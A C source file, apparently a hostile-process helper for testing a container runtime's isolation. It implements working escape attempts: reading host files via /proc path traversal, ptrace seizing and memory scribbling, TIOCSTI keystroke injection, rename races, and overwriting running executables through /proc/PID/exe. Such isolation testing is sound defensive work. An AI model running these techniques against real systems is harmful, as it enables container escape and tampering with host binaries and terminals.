/* SPDX-License-Identifier: Apache-2.0 */
/* clang-format off */
/* attacker WHAT...: what hostile processes do, in a container or beside it. Linked statically, for
 * images.
 *
 *	flip A B          exchanges two names for ever
 *	look FILE         opens FILE, which is the host's, by the root, working directory and
 *	                  descriptors of each process that comes next, and its memory for writing
 *	seize MASK        traces each process that comes next, and says which of its capabilities
 *	                  are not in MASK
 *	kill | stop       sends that signal to each process that comes next
 *	forge             traces each process that comes next, and shrinks, then scribbles over,
 *	                  the page that it shares with tare
 *	type TEXT         pushes TEXT into the terminal on descriptor 0, and into the controlling one
 *	overwrite         opens for writing, for ever, the executables of all processes that are not
 *	                  files of the image
 *	send SOCKET TEXT  sends a datagram
 *
 * Those that watch say "ready" first, "met N" of the first process that they saw, and "FOUND ..."
 * of what they got. */
/* clang-format on */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *format, ...)
{
	va_list arguments;

	va_start(arguments, format);
	vprintf(format, arguments);
	va_end(arguments);
	putchar('\n');
	fflush(stdout);
}

static void met(pid_t pid)
{
	static int before;

	if (!before++)
		say("met %d", (int)pid);
}

/* The number that was given out last in our pid namespace: proc_loadavg(5). */
static pid_t last_pid(void)
{
	static int fd = -1;
	char text[128];

	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	ssize_t n = pread(fd, text, sizeof text - 1, 0);
	if (n <= 0)
		exit(3);
	text[n] = '\0';
	char *blank = strrchr(text, ' ');
	return blank ? atoi(blank) : 0;
}

/* Calls a function for the processes that have just come, and for those that are about to. */
_Noreturn static void watch(void (*meet)(pid_t, const char *), const char *argument)
{
	pid_t self = getpid();

	say("ready");
	for (;;) {
		pid_t last = last_pid();
		for (pid_t pid = last - 3 > self ? last - 3 : self + 1; pid <= last + 2; pid++)
			meet(pid, argument);
	}
}

static void try(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		return;
	say("FOUND %s", path);
	close(fd);
}

static void look(pid_t pid, const char *file)
{
	static const char up[] = "/../../../../../../../../../../../..";
	char path[600];
	struct stat st;

	snprintf(path, sizeof path, "/proc/%d", pid);
	if (stat(path, &st))
		return;
	met(pid);
	snprintf(path, sizeof path, "/proc/%d/root%s", pid, file);
	try(path);
	snprintf(path, sizeof path, "/proc/%d/cwd%s%s", pid, up, file);
	try(path);
	for (int fd = 3; fd < 12; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d%s%s", pid, fd, up, file);
		try(path);
	}
}

static void scribble(pid_t pid, unsigned long long unused);

/* Stops a process for as long as a function needs. */
static void with_stopped(pid_t pid, void (*act)(pid_t, unsigned long long),
			 unsigned long long argument)
{
	static unsigned char before[1 << 22];
	int status;

	/* Not for ever, or it would never get on. */
	if (before[pid] > (act == scribble ? 200 : 5) || ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		return;
	before[pid]++;
	met(pid);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		act(pid, argument);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void compare(pid_t pid, unsigned long long mask)
{
	char path[64], line[256], name[16];
	unsigned long long set;

	/* In a user namespace of its own it has no right that unshare(2) would not give to anybody.
	 */
	struct stat theirs, ours;
	snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
	if (stat(path, &theirs) || stat("/proc/self/ns/user", &ours) ||
	    theirs.st_ino != ours.st_ino)
		return;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *file = fopen(path, "re");
	while (file && fgets(line, sizeof line, file))
		if (sscanf(line, "%15[^:]: %llx", name, &set) == 2 && !strncmp(name, "Cap", 3) &&
		    set & ~mask)
			say("FOUND %s %llx", name, set & ~mask);
	if (file)
		fclose(file);
}

static void seize(pid_t pid, const char *mask)
{
	with_stopped(pid, compare, strtoull(mask, NULL, 16));
}

/* Shrinks each memfd that the stopped process has open, and fills the shared pages that it has
 * mapped. */
static void scribble(pid_t pid, unsigned long long unused)
{
	char path[64], line[512];
	unsigned long from, to;

	(void)unused;
	for (int fd = 3; fd < 12; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t n = readlink(path, line, sizeof line - 1);
		line[n > 0 ? n : 0] = '\0';
		int own = strstr(line, "memfd:") ? open(path, O_RDWR | O_CLOEXEC) : -1;
		if (own >= 0) {
			say("shrunk: %d", !ftruncate(own, 0));
			close(own);
		}
	}
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "re");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "memfd:") && strstr(line, "rw-s") &&
		    sscanf(line, "%lx-%lx", &from, &to) == 2)
			for (unsigned long at = from; at < from + 1024 && at < to;
			     at += sizeof(long))
				if (!ptrace(PTRACE_POKEDATA, pid, at, random() * 0x10001L) &&
				    at == from)
					say("scribbled");
	if (maps)
		fclose(maps);
}

static void forge(pid_t pid, const char *unused)
{
	(void)unused;
	with_stopped(pid, scribble, 0);
	usleep(300);
}

static void end(pid_t pid, const char *signal)
{
	if (!kill(pid, atoi(signal)))
		met(pid);
}

_Noreturn static void flip(const char *a, const char *b)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static int type(const char *text)
{
	int terminal = open("/dev/tty", O_RDWR);

	say("controlling terminal: %s", terminal >= 0 ? "FOUND" : strerror(errno));
	for (int i = 0; text[i]; i++)
		if (!ioctl(0, TIOCSTI, text + i) ||
		    (terminal >= 0 && !ioctl(terminal, TIOCSTI, text + i)))
			say("FOUND pushed %c", text[i]);
	return 0;
}

/* Is the executable of the process one that the image has under that name? Several times, because
 * the name may be exchanged meanwhile. */
static int is_the_images(const char *exe, const struct stat *st)
{
	for (int tries = 64; tries; tries--) {
		char name[512];
		ssize_t length = readlink(exe, name, sizeof name - 1);
		struct stat named;

		name[length > 0 ? length : 0] = '\0';
		if (!stat(name, &named) && named.st_dev == st->st_dev &&
		    named.st_ino == st->st_ino)
			return 1;
	}
	return 0;
}

/* While it is executed, an open for writing fails with ETXTBSY: a descriptor of it is kept, and
 * tried again. */
static int overwrite(void)
{
	int kept[64], n = 0;
	struct stat st;
	char path[64];

	say("ready");
	for (;;) {
		for (pid_t pid = 1, last = last_pid(); pid <= last + 2; pid++) {
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0 || fstat(fd, &st) || is_the_images(path, &st) || n == 64)
				close(fd);
			else
				kept[n++] = fd;
		}
		for (int i = 0; i < n; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			met(i);
			/* A sealed copy in memory can be opened, and not be written to. */
			if (fd >= 0 && write(fd, "#!/bin/false\n", 13) > 0) {
				say("FOUND written");
				return 0;
			}
			close(fd);
		}
		while (n > 8)
			close(kept[--n]);
	}
}

static int send_text(const char *path, const char *text)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	strncpy(address.sun_path, path, sizeof address.sun_path - 1);
	if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) ||
	    write(fd, text, strlen(text)) < 0)
		say("send: %s", strerror(errno));
	return 0;
}

static const struct {
	const char *name;
	unsigned number;
} calls[] = {
	{ "openat2", SYS_openat2 },
	{ "mount_setattr", SYS_mount_setattr },
	{ "fsopen", SYS_fsopen },
	{ "open_tree", SYS_open_tree },
	{ "move_mount", SYS_move_mount },
	{ "clone3", SYS_clone3 },
	{ "close_range", SYS_close_range },
	{ "pidfd_open", SYS_pidfd_open },
	{ "pidfd_getfd", SYS_pidfd_getfd },
	{ "statx", SYS_statx },
	{ "faccessat2", SYS_faccessat2 },
	{ "execveat", SYS_execveat },
	{ "memfd_create", SYS_memfd_create },
	{ "prctl", SYS_prctl },
	{ "nothing", 100000 }, /* a filter, as with all others */
};

static int without(char *list, char **command)
{
	struct sock_filter code[2 * sizeof calls / sizeof *calls + 2];
	unsigned short n = 0;

	code[n++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0);
	for (char *word = strtok(list, ","); word; word = strtok(NULL, ",")) {
		char *error = strchr(word, '=');
		unsigned err = !error ? ENOSYS : !strcmp(error, "=EPERM") ? EPERM : EACCES;
		if (error)
			*error = '\0';
		size_t i = 0;
		while (i < sizeof calls / sizeof *calls && strcmp(calls[i].name, word) != 0)
			i++;
		if (i == sizeof calls / sizeof *calls)
			return 2;
		code[n++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, calls[i].number,
							 0, 1);
		code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | err);
	}
	code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	const struct sock_fprog program = { n, code };
	/* An ordinary user may not; and with no_new_privs newuidmap would have no rights. */
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) && errno != EACCES)
		return 2;
	execvp(*command, command);
	return 127;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "", *a = argc > 2 ? argv[2] : "",
		   *b = argc > 3 ? argv[3] : "";

	if (!strcmp(what, "flip"))
		flip(a, b);
	if (!strcmp(what, "look"))
		watch(look, a);
	if (!strcmp(what, "seize"))
		watch(seize, a);
	if (!strcmp(what, "forge"))
		watch(forge, a);
	if (!strcmp(what, "kill"))
		watch(end, "9");
	if (!strcmp(what, "stop"))
		watch(end, "19");
	if (!strcmp(what, "type"))
		return type(a);
	if (!strcmp(what, "overwrite"))
		return overwrite();
	if (!strcmp(what, "without") && argc > 3)
		return without(argv[2], argv + 3);
	if (!strcmp(what, "send"))
		return send_text(a, b);
	return 2;
}
